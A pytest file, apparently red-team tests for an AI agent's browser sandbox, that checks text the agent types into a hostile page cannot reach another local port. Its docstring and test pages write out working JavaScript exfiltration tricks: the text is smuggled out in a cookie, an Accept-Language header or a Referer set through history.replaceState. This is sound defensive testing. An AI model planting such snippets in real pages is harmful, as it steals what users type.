"""redteam11: typed text carried in a cookie to a URL the page had requested before the typing (real Chromium).

``envs/browser_sends.py`` lets a page request again, after the agent typed, a URL it requested before (a logo
loaded again cannot hold the typed text in its URL). But cookies are kept per host, not per port: the page on
``127.0.0.1:A`` sets ``document.cookie = typed text`` and fetches the logo again from the listener on
``127.0.0.1:B``; the Cookie header carried the text there. So did ``Accept-Language`` (a header a no-cors fetch
may set) and the Referer (``history.replaceState`` to a URL holding the text, ``referrerPolicy: 'unsafe-url'``).
Now a request may take that exception only with the headers a script can set as they were before the typing.
"""

from __future__ import annotations

import http.server

import pytest

from .test_redteam10_browser import SECRET, _browser_or_skip, _serve, _site, _type_into

pytestmark = pytest.mark.skipif(not __import__("shutil").which("bwrap"), reason="needs bubblewrap")


@pytest.fixture
def cookie_listener():
    heard: list[str] = []

    class Listener(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802
            heard.append(f"{self.path} cookie={self.headers.get('cookie', '')} "
                         f"lang={self.headers.get('accept-language', '')} referer={self.headers.get('referer', '')}")
            self.send_response(200)
            self.send_header("cache-control", "no-store")
            self.end_headers()

        def log_message(self, *args):
            pass

    server = _serve(Listener)
    yield f"http://127.0.0.1:{server.server_address[1]}", heard
    server.shutdown()
    server.server_close()


def test_typed_text_does_not_leave_in_a_cookie_to_a_url_seen_before(tmp_path, cookie_listener):
    _browser_or_skip()
    base, heard = cookie_listener
    page = (f"<html><body><img src='{base}/logo.png' alt=logo><label>Note <input id=n oninput=\"document.cookie = "
            f"'s=' + encodeURIComponent(this.value) + '; path=/'; fetch('{base}/logo.png', {{mode: 'no-cors', "
            f"credentials: 'include', cache: 'no-store'}});\"></label></body></html>")
    site = _site(page, [])
    try:
        _type_into(f"http://127.0.0.1:{site.server_address[1]}/", tmp_path, "Note", SECRET,
                   wait_for=lambda: any("42k" in h for h in heard))
    finally:
        site.shutdown()
        site.server_close()
    assert any(h.startswith("/logo.png") for h in heard), heard  # the logo loaded before the typing
    assert not [h for h in heard if "42k" in h], heard


LEAKS = {
    "Accept-Language of a no-cors fetch": "fetch(B + '/logo.png', {mode: 'no-cors', cache: 'no-store', "
                                          "headers: {'Accept-Language': this.value}})",
    "the Referer after replaceState": "history.replaceState(null, '', '/?d=' + encodeURIComponent(this.value)); "
                                      "fetch(B + '/logo.png', {mode: 'no-cors', cache: 'no-store', referrerPolicy: "
                                      "'unsafe-url'})",
}


@pytest.mark.parametrize("leak", LEAKS.values(), ids=LEAKS.keys())
def test_typed_text_does_not_leave_in_other_headers(tmp_path, cookie_listener, leak):
    _browser_or_skip()
    base, heard = cookie_listener
    fetch = "fetch(B + '/logo.png', {mode: 'no-cors', cache: 'no-store'})"
    page = (f"<html><body><script>var B = '{base}'; {fetch};</script><label>Note <input id=n oninput=\"{leak}\">"
            "</label></body></html>")
    site = _site(page, [])
    try:
        _type_into(f"http://127.0.0.1:{site.server_address[1]}/", tmp_path, "Note", SECRET,
                   wait_for=lambda: any("42k" in h for h in heard))
    finally:
        site.shutdown()
        site.server_close()
    assert heard, heard  # the fetch before the typing
    assert not [h for h in heard if "42k" in h], heard


def test_a_page_with_its_own_cookie_still_reloads_its_resources(tmp_path, cookie_listener):
    _browser_or_skip()
    base, heard = cookie_listener
    fetch = f"fetch('{base}/logo.png', {{mode: 'no-cors', credentials: 'include', cache: 'no-store'}})"
    page = (f"<html><body><script>document.cookie = 'theme=dark; path=/'; {fetch};</script>"
            f"<label>Search <input id=q oninput=\"{fetch};\"></label></body></html>")
    site = _site(page, [])
    try:
        _type_into(f"http://127.0.0.1:{site.server_address[1]}/", tmp_path, "Search", "weather",
                   wait_for=lambda: len(heard) > 1)
    finally:
        site.shutdown()
        site.server_close()
    assert len([h for h in heard if h.startswith("/logo.png")]) > 1, heard  # fetched again after the typing
